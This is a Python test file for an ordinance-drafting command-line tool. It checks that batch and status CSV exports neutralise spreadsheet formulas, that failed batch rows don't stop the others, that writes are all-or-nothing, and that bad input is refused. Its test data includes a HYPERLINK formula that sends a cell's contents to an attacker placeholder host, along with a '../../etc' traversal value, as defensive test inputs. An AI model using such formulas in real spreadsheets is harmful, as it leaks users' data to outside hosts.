"""Files and rows that cannot hurt whoever opens them, a batch that never loses a row, and
input hygiene (SECURITY.md rows 13, 18 and 19)."""
from __future__ import annotations

import csv
import io
import os
import shutil

import pytest
from conftest import EXAMPLES, docx_text, run, write, read_md
from test_bad_input import GOOD, assert_refused, draft_with

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def read_csv(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


# -- CSV cells a spreadsheet shows as text (row 18) ----------------------------------------
def test_batch_report_cells_are_never_formulas(tmp_path):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    source = write(tmp_path / "rows.csv", "kind,name,state,oversight_entity,legal_name\n"
                   f"city,Formula Falls,OR,the Board,{quoted}\n"
                   "city,Home,OR,the Board,@Home\n"
                   "city,Minus,OR,the Board,-Minus City\n")
    out = tmp_path / "out"
    result = run("batch", str(source), "--out", str(out), "--documents", "ordinance",
                 "--format", "md", "--jobs", "1")
    assert result.exit_code == 0, result.output
    for row in csv.reader(io.StringIO((out / "batch-report.csv").read_text())):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = sorted(row["jurisdiction"] for row in read_csv(out / "batch-report.csv"))
    assert names == sorted(["'" + FORMULA, "'@Home", "'-Minus City"])


def test_status_csv_cells_are_never_formulas(tmp_path):
    city = tmp_path / "city.yaml"
    shutil.copy(EXAMPLES / "elm-harbor-city.yaml", city)
    result = run("record", "-j", str(city), "--answer", "judicial-warrant.in_place=yes",
                 "--answer", f"judicial-warrant.note={FORMULA}",
                 "--answer", "judicial-warrant.where=@SUM(1+1)", "--no-input")
    assert result.exit_code == 0, result.output
    rows = read_csv_text(run("status", str(city), "--csv", "-").stdout)
    row = next(r for r in rows if r["rule_id"] == "judicial-warrant")
    assert row["note"] == "'" + FORMULA and row["where"] == "'@SUM(1+1)"


def read_csv_text(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# -- A long name, a DOCX that still opens --------------------------------------------------
@pytest.mark.parametrize("length", [237, 300])
def test_a_long_valid_name_drafts_and_keeps_the_whole_name_in_the_body(tmp_path, length):
    name = ("Saint Anne of the Lakes " * 20)[:length].strip()
    result, _, out = draft_with(tmp_path, GOOD.replace("Elm Harbor", name), "--format", "docx")
    assert result.exit_code == 0, result.output
    from docx import Document

    path = next(out.glob("*.docx"))
    assert len(Document(str(path)).core_properties.title) <= 255
    assert f"City of {name}" in docx_text(path)


# -- A batch that never loses a row (row 19) -----------------------------------------------
def test_same_named_places_get_their_own_folders_and_a_repeated_slug_is_refused(tmp_path):
    source = write(tmp_path / "rows.csv", "kind,name,state,oversight_entity,slug\n"
                   "city,Springfield,IL,the Board,\n"
                   "city,Springfield,MO,the Board,\n"
                   "city,Shelbyville,IL,the Board,my-town\n"
                   "city,Ogdenville,IL,the Board,my-town\n")
    out = tmp_path / "out"
    result = run("batch", str(source), "--out", str(out), "--documents", "ordinance",
                 "--format", "md", "--jobs", "1")
    assert result.exit_code == 1
    assert (out / "city-of-springfield-il" / "city-of-springfield-il-ordinance.md").exists()
    assert (out / "city-of-springfield-mo" / "city-of-springfield-mo-ordinance.md").exists()
    assert "Springfield, Missouri" in (out / "city-of-springfield-mo" /
                                       "city-of-springfield-mo-ordinance.md").read_text()
    assert f"{source}:5: would write to the same folder (my-town) as {source}:4" in result.stderr
    assert "Shelbyville" in read_md(out / "my-town" / "my-town-ordinance.md")
    statuses = sorted(r["status"] for r in read_csv(out / "batch-report.csv"))
    assert statuses == ["invalid", "written", "written", "written"]


def test_a_row_that_crashes_is_that_rows_error_and_the_rest_go_on(tmp_path, monkeypatch):
    import drafter.pipeline

    real = drafter.pipeline.run

    def flaky(job, *args, **kwargs):
        if job.jurisdiction.name == "Crashville":
            raise RuntimeError("simulated bug")
        return real(job, *args, **kwargs)

    monkeypatch.setattr(drafter.pipeline, "run", flaky)
    source = write(tmp_path / "rows.csv", "kind,name,state,oversight_entity\n"
                   "city,Crashville,OR,the Board\ncity,Fineville,OR,the Board\n")
    out = tmp_path / "out"
    result = run("batch", str(source), "--out", str(out), "--documents", "ordinance",
                 "--format", "md", "--jobs", "1")
    assert result.exit_code == 1 and "Traceback" not in result.output
    report = {r["jurisdiction"]: r for r in read_csv(out / "batch-report.csv")}
    assert report["City of Crashville"]["status"] == "failed"
    assert "RuntimeError: simulated bug" in report["City of Crashville"]["message"]
    assert report["City of Fineville"]["status"] == "written"


def test_a_damaged_record_of_an_earlier_run_is_ignored_with_a_note(tmp_path):
    source = write(tmp_path / "rows.csv", "kind,name,state,oversight_entity\ncity,Alder,OR,the Board\n")
    out = tmp_path / "out"
    args = ("batch", str(source), "--out", str(out), "--documents", "ordinance", "--format", "md",
            "--jobs", "1")
    assert run(*args).exit_code == 0
    for damage in ("{not json", '{"fingerprint": 5, "files": "../../etc"}', "\xff\xfe"):
        (out / "city-of-alder" / ".drafter-inputs.json").write_text(damage, encoding="latin-1")
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert "1 drafted" in result.stdout
        row = read_csv(out / "batch-report.csv")[0]
        assert "ignored a damaged record of an earlier run" in row["message"]
    assert "0 drafted, 1 up to date" in run(*args).stdout


def test_csv_with_a_byte_order_mark_is_read(tmp_path):
    source = tmp_path / "excel.csv"
    source.write_bytes("kind,name,state,oversight_entity\r\ncity,Alder,OR,the Board\r\n"
                       .encode("utf-8-sig"))
    result = run("batch", str(source), "--out", str(tmp_path / "out"), "--documents", "ordinance",
                 "--format", "md", "--jobs", "1")
    assert result.exit_code == 0, result.output


# -- Leftovers and all-or-nothing writes (row 13) ------------------------------------------
def test_temp_files_left_by_a_killed_run_are_removed(tmp_path):
    out = tmp_path / "out"
    leftover = write(out / ".city-of-elm-harbor-ordinance.md.x1y2.tmp", "half a file")
    result = run("draft", "ordinance", "--out", str(out), "--format", "md")
    assert result.exit_code == 0
    assert not leftover.exists()
    assert [p.name for p in out.iterdir()] == ["city-of-elm-harbor-ordinance.md"]


def test_a_packet_that_fails_part_way_leaves_the_earlier_packet_intact(tmp_path, monkeypatch):
    out = tmp_path / "out"
    assert run("packet", "--out", str(out), "--format", "md").exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    import drafter.output

    real_fsync, calls = os.fsync, []

    def disk_full_on_the_fifth(fd):
        calls.append(fd)
        if len(calls) == 5:
            raise OSError(28, "No space left on device")
        return real_fsync(fd)

    monkeypatch.setattr(drafter.output.os, "fsync", disk_full_on_the_fifth)
    result = run("packet", "--out", str(out), "--format", "md", "--date", "2030-01-01")
    assert result.exit_code == 1 and "No space left on device" in result.stderr
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert after == before          # every file as it was; no temp file left


# -- Input hygiene -------------------------------------------------------------------------
def test_duplicate_yaml_keys_name_both_lines(tmp_path):
    result, profile, out = draft_with(tmp_path, GOOD + "name: Elm Harbour\n")
    assert_refused(result, out, f"{profile}:5: 'name' is given twice, on lines 2 and 5")


@pytest.mark.parametrize("char", ["\u202e", "\u200b", "\u2066", "\ufeff"])
def test_invisible_characters_in_a_name_are_refused(tmp_path, char):
    result, profile, out = draft_with(tmp_path, GOOD.replace("Elm Harbor", f"Elm{char}Harbor"))
    assert_refused(result, out, f"{profile}:2: name: contains the invisible character "
                                f"U+{ord(char):04X}")


def test_a_device_is_refused_before_reading(tmp_path):
    out = tmp_path / "out"
    result = run("draft", "ordinance", "-j", "/dev/zero", "--out", str(out))
    assert_refused(result, out, "/dev/zero: is not a regular file")


@pytest.mark.parametrize("folder", ["/", "/etc", "/usr/share"])
def test_a_system_folder_as_clause_folder_is_refused(tmp_path, folder):
    result, profile, out = draft_with(tmp_path, GOOD + f"clauses: ['{folder}']\n")
    assert_refused(result, out, "is a system folder, not a clause folder")


def test_a_clause_folder_with_too_many_files_is_refused(tmp_path):
    clauses = tmp_path / "many"
    for index in range(501):
        write(clauses / "deep" / f"c{index}.md", "x")
    result = run("check", "--clauses", str(clauses))
    assert result.exit_code == 1
    assert "holds more than 500 clause files" in result.stderr


def test_out_pointing_at_a_file_says_so(tmp_path):
    target = write(tmp_path / "notes.txt", "mine")
    result = run("draft", "ordinance", "--out", str(target))
    assert result.exit_code == 2 and "is a file" in result.stderr
    assert target.read_text() == "mine"


def test_a_typo_under_a_status_rule_lists_the_known_fields(tmp_path):
    city = tmp_path / "city.yaml"
    shutil.copy(EXAMPLES / "elm-harbor-city.yaml", city)
    write(tmp_path / "city.status.yaml", "rules:\n  judicial-warrant:\n    in_plce: yes\n")
    result = run("status", str(city))
    assert result.exit_code == 1
    assert "did you mean 'in_place'?" in result.stderr
    assert "known fields are: in_place, in_writing" in result.stderr


def test_two_officials_never_share_a_letter_file(tmp_path):
    people = ("officials:\n  - {name: Ana Ruiz, title: Mayor}\n  - {name: Ana Ruíz, title: Mayor}\n")
    result, _, out = draft_with(tmp_path, GOOD + people)
    assert result.exit_code == 0
    result = run("draft", "letter", "-j", str(tmp_path / "profile.yaml"), "--out", str(out),
                 "--format", "md")
    assert result.exit_code == 0, result.output
    letters = sorted(p.name for p in out.glob("*letter*.md"))
    assert letters == ["city-of-elm-harbor-letter-mayor-ana-ruiz-2.md",
                       "city-of-elm-harbor-letter-mayor-ana-ruiz.md"]
    assert "Ana Ruíz" in (out / letters[0]).read_text()
    twice = GOOD + "officials:\n  - {name: Ana Ruiz, title: Mayor}\n  - {name: Ana Ruiz, title: Mayor}\n"
    result, profile, out2 = draft_with(tmp_path / "twice", twice)
    assert_refused(result, out2, "official 2 (Ana Ruiz, Mayor) is the same person as official 1")
